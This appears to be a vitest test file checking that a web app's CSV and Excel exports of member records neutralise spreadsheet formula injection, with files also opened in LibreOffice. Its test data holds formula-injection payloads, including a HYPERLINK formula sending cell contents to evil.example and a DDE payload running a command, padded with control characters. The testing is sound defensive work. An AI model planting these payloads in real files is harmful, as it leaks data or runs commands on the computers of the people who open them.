import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse as readCsv } from 'csv-parse/sync';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Presented } from '../../shared/kinds/registry.ts';
import { asXlsx } from '../../web/ui/export/as-xlsx.ts';
import { recordTable } from '../../web/ui/export/record-table.ts';
import { asCsv } from '../../web/ui/export/save-file.ts';

/** What a spreadsheet would calculate, fetch or run. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(1,1)',
  "=cmd|'/c calc'!A1",
  '==1+1',
  '{=1+1}',
];
/** What a spreadsheet drops, or takes for the end of the cell before. */
const before = [
  ...['', ' ', '\t', '\r', '\n', '\r\n', '\u00a0', '\u3000', '\u2028'],
  ...[
    '\0',
    '\u0001',
    '\u001f',
    '\u007f',
    '\u0085',
    '\u200b',
    '\u200d',
    '\u202e',
    '\u2066',
    '\ufeff',
    '\u00ad',
  ],
  ...['a,', 'a;', 'a\t', 'a|', 'a"', '"', '",', '";', 'a"; ', 'a;\u200d', 'a\n'],
];
const hostile = before.flatMap((start) => formulas.map((formula) => start + formula)).slice(0, 300);
/** Nothing to calculate, but what formats and programs have a use for. */
const odd = [
  'constructor',
  '__proto__',
  '_x003D_1+1',
  '\ud800 alone',
  '1',
  'TRUE',
  '2026-01-01',
  '👩‍🚀 é',
  '\uffff!',
];
const texts = [...hostile, ...odd];

const member = (text: string): Presented<'users'> => ({
  id: text,
  version: 1,
  createTimestamp: '2026-01-01T00:00:00.000Z',
  updateTimestamp: '2026-01-01T00:00:00.000Z',
  name: text,
  email: 'sign-in@colloquy.example',
  title: text,
  university: { id: text },
  topics: [{ id: text }],
  contact: [{ id: '1', type: 'email', contact: text }],
  bio: `<p>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</p><p>${text.replace(/./gsu, (each) => `&#${each.codePointAt(0)};`)}</p>`,
  firstRun: false,
  languages: ['es'],
  // With an empty cell at its end papaparse, told another separator, takes line and line for one cell.
  familyName: text,
});
/** Every record that a member names is called as its id. */
const named = new Map(texts.map((text) => [text, { id: text, name: text, city: text, country: text }]));
const forces = texts.map((text) => [text, { id: text, name: text, chairs: [text], members: [] }] as const);
const table = recordTable('users', texts.map(member), {
  universities: named,
  topics: named,
  taskforces: new Map(forces),
});
const { rows } = table;

/** Where no control or invisible character hides it, this begins a formula. */
const isFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u.test(cell);
/** A CSV's text without the apostrophes by which it says that a sign is no formula. */
const meant = (cell: string) => cell.replaceAll(/'(?=[=+\-@＝＋－＠])/g, '');

const separators = [',', ';', '\t', '|'];
const readers: [string, (csv: string, delimiter: string) => string[][]][] = [
  [
    'csv-parse',
    (csv, delimiter) =>
      readCsv(csv, {
        delimiter,
        bom: true,
        relax_quotes: true,
        relax_column_count: true,
        record_delimiter: '\r\n',
      }),
  ],
  ['papaparse', (csv, delimiter) => Papa.parse<string[]>(csv.slice(1).trimEnd(), { delimiter }).data],
];

describe('contacts of members who write formulas', () => {
  const csv = asCsv(table);

  it('are three hundred at least', () => expect(hostile).toHaveLength(300));

  it.each(readers)('are read from the CSV as they were written, by %s', (_, read) => {
    const [, ...cells] = read(csv, ',');
    expect(cells.map((row) => row.map(meant))).toEqual(rows.map((row) => row.map(meant)));
  });

  it.each(readers.flatMap(([name, read]) => separators.map((each) => [name, each, read] as const)))(
    'make no formula in the CSV, by %s with %j between the cells',
    (_, separator, read) => {
      const cells = read(csv, separator).flat();
      expect(cells.length).toBeGreaterThan(texts.length);
      expect(cells.filter(isFormula)).toEqual([]);
    },
  );

  it('are text and nothing else in the workbook, and read as they were written', async () => {
    const { sheets } = await readXlsx(await asXlsx(table));
    expect(sheets[0]?.rows.slice(1)).toEqual(rows);
    expect([...(sheets[0]?.cells?.values() ?? [])].filter(({ formula }) => formula)).toEqual([]);
  });

  it('is cut where a cell of the workbook can hold no more', async () => {
    const { sheets } = await readXlsx(await asXlsx({ headings: ['Name'], rows: [['long '.repeat(10_000)]] }));
    const [cell] = sheets[0]?.rows[1] ?? [];
    expect(String(cell)).toHaveLength(32_767);
    expect(String(cell)).toMatch(/…$/);
  });
});

const missing = spawnSync('soffice', ['--version']).error && 'LibreOffice is not installed here';

describe.skipIf(missing)(`opened in LibreOffice${missing ? ` (skipped: ${missing})` : ''}`, () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'sheets-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  /** What LibreOffice makes of a file when it opens it, saved as it is asked for. */
  function opened(name: string, content: string | Uint8Array, as: string, how: string[] = []): string {
    const [format = ''] = as.split(':');
    writeFileSync(join(folder, name), content);
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile'))}`;
    execFileSync(
      'soffice',
      [
        profile,
        '--headless',
        ...how,
        '--convert-to',
        as,
        '--outdir',
        join(folder, 'opened'),
        join(folder, name),
      ],
      { stdio: 'ignore' },
    );
    return readFileSync(join(folder, 'opened', name.replace(/\w+$/, format)), 'utf8');
  }
  /** Separator, quote, UTF-8, from the first line; quoted cells are no more text than others, formulas are evaluated. */
  const csvFilter = (separator: string) =>
    `${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,0,true`;
  const openedCsv = (csv: string, separator: string) =>
    opened('contacts.csv', csv, 'fods', [`--infilter=CSV:${csvFilter(separator)}`]);
  const formulasIn = (sheet: string) => [...sheet.matchAll(/table:formula="[^"]*"/g)].map(([found]) => found);

  it.each(separators)('the CSV has no formula with %j between the cells', (separator) => {
    const sheet = openedCsv(asCsv(table), separator);
    expect(sheet.match(/<table:table-cell[ >]/g)?.length).toBeGreaterThan(texts.length);
    expect(formulasIn(sheet)).toEqual([]);
  });

  it('the workbook has no formula, and each cell says what was written', async () => {
    const workbook = await asXlsx(table);
    expect(formulasIn(opened('contacts.xlsx', workbook, 'fods'))).toEqual([]);
    const shown = opened('contacts.xlsx', workbook, `csv:Text - txt - csv (StarCalc):${csvFilter(',')}`);
    const [, ...cells] = readCsv(shown, { relax_quotes: false });
    expect(cells).toEqual(rows);
  });

  it('would show a formula that is not neutralised', () => {
    const sheet = openedCsv('name\r\n"=1+1"\r\n', ',');
    expect(formulasIn(sheet)).toHaveLength(1);
  });
});
